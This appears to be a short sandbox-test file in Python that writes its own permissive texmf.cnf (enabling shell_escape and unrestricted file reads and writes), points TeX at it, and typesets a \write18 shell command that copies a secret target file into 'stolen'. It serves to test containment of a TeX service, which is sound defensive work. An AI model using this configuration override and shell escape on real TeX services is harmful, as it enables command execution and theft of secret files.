"""Brings a configuration of its own that allows everything."""
# expect: completed
# prepare: files
# job: timeout_s=38
import os

from attack import *


class Attack(Trial):
    def attack(self):
        for name in ("openin_any", "openout_any", "shell_escape"):
            os.environ.pop(name, None)  # they would go before any file
        with open(os.environ["HOME"] + "/texmf.cnf", "w") as out:
            out.write("openin_any = a\nopenout_any = a\nshell_escape = t\n")
        os.environ.update(TEXMFCNF=os.environ["HOME"] + ":")
        typeset(r"\input{%s}\immediate\write18{cat %s > stolen}" % (TARGETS["secret"], TARGETS["secret"]))
        look("what TeX wrote", typeset_contents())
